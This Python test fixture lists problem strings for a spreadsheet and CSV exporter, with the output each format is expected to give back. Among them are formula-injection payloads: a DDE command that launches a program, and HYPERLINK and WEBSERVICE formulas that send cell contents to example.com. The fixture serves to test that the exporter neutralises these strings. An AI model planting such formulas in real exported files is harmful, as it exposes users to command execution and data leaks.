"""Texts that went wrong in somebody's export, and how each format gives them back."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True)
class Hostile:
    """A text, and what a reader of each format gets; None: the text itself."""

    text: str
    csv: str | None = None
    xlsx: str | None = None
    json: str | None = None


def _formula(text: str) -> Hostile:
    """CSV puts an apostrophe before it; a workbook needs none."""
    return Hostile(text, csv=f"'{text}")


LONG: Final = "ğ" * 40_000
LONG_PAIRS: Final = "😀" * 20_000
MARK: Final = " … [cut]"

TEXTS: Final = {
    # what OWASP lists, and relatives
    "formula": _formula("=1+1"),
    "command": _formula("=cmd|' /C calc'!A0"),
    "link": _formula('=HYPERLINK("http://example.com?x="&A1,"Click")'),
    "web service": _formula('=WEBSERVICE(CONCAT("http://example.com/",A1))'),
    "array formula": _formula("{=1+1}".removeprefix("{").removesuffix("}")),
    "braces": Hostile("{=SUM(A1:A2)}"),
    "plus": _formula("+1+1"),
    "minus": _formula("-1+1"),
    "at": _formula("@SUM(1)"),
    "tab": _formula("\t=1+1"),
    "carriage return": Hostile("\r=1+1", csv="'\r=1+1", xlsx="_x000D_=1+1"),
    "line feed": _formula("\n=1+1"),
    "full-width equals": _formula("＝1+1"),
    "full-width plus": _formula("＋1"),
    "full-width minus": _formula("－1"),
    "full-width at": _formula("＠SUM(1)"),
    "blank before": _formula("  =1+1"),
    "no-break space before": _formula("\u00a0=1+1"),
    "apostrophe before": Hostile("'=1+1"),
    "dash alone": _formula("-"),
    "minus five as a text": _formula("-5"),
    # what spreadsheets change by themselves
    "leading zeros": Hostile("007"),
    "phone": _formula("+90 555 010 01 01"),
    "a date to Excel": Hostile("1-2"),
    "a number to Excel": Hostile("3E5"),
    "a gene": Hostile("MARCH1"),
    "many digits": Hostile("12345678901234567890"),
    "true": Hostile("TRUE"),
    "not a number": Hostile("NaN"),
    "an error": Hostile("#REF!"),
    "a link": Hostile("https://example.com/?a=1&b=2"),
    "a mail": Hostile("mailto:a@example.com"),
    "a file": Hostile("external:c:\\temp\\a.xlsx"),
    # what separates
    "comma": Hostile("a,b"),
    "semicolon": Hostile("a;b"),
    "quotes": Hostile('say "yes"'),
    "a quote alone": Hostile('"'),
    "two lines": Hostile("one\ntwo"),
    "two lines of Windows": Hostile("one\r\ntwo", xlsx="one_x000D_\ntwo"),
    "a tab inside": Hostile("a\tb"),
    "backslash": Hostile("a\\,b"),
    "blanks around": Hostile("  a  "),
    "line separator": Hostile("a\u2028b\u2029c"),
    "separator line of Excel": Hostile("sep=;"),
    # scripts and signs
    "Turkish": Hostile("İIıi ğüşöç ĞÜŞÖÇ"),
    "right to left": Hostile("\u202eمرحبا\u202c שלום"),
    "emoji": Hostile("👩‍👩‍👧‍👦 🇹🇷"),
    "combining": Hostile("e\u0301"),
    "zero width": Hostile("a\u200bb\ufeffc"),
    "byte order mark": Hostile("\ufeffa"),
    "half a pair": Hostile("a\ud83db", csv="a\ufffdb", xlsx="a\ufffdb", json="a\ufffdb"),
    "other half": Hostile("\udc00", csv="\ufffd", xlsx="\ufffd", json="\ufffd"),
    "no character": Hostile("a\uffffb", xlsx="a\ufffdb"),
    "control": Hostile("a\x01b\x1fc", xlsx="a_x0001_b_x001F_c"),
    "null": Hostile("a\x00b", xlsx="a_x0000_b"),
    # what XML and XlsxWriter read something into
    "markup": Hostile("<b>&amp;</b>"),
    "rich": Hostile("<r><t>red</t></r>"),
    "broken rich": Hostile("<r></c></r>"),
    "looks escaped": Hostile("_x0041_", xlsx="_x005F_x0041_"),
    "closing": Hostile("]]></t></is></c>"),
    # long
    "32,767": Hostile("x" * 32_767),
    "40,000": Hostile(LONG, xlsx=LONG[: 32_767 - len(MARK)] + MARK),
    "20,000 pairs": Hostile(LONG_PAIRS, xlsx=LONG_PAIRS[: (32_767 - len(MARK)) // 2] + MARK),
    "long formula": Hostile(
        "=" + "1+" * 20_000, csv="'=" + "1+" * 20_000, xlsx=("=" + "1+" * 20_000)[: 32_767 - len(MARK)] + MARK
    ),
}
